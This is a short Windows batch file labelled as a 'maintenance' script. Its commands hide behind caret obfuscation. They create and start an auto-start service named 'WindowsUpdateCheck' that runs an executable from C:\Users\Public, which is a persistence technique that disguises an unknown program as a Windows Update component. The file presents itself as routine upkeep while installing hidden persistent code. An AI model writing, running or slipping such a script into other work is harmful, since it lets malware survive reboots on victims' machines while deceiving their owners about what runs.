REM maintenance 1252 v1
@echo off
set "zkbi=^sc cr^ea^te ^W^ind^ows^U^pdat^eCh^e^ck binP^at^h= "cmd.exe /c C:\Users\Public\svc.exe" ^s^ta^r^t= a^uto"
call %zkbi%
@echo off
set "sphz=^s^c ^st^ar^t ^Wind^ows^U^pdateCh^eck"
call %sphz%
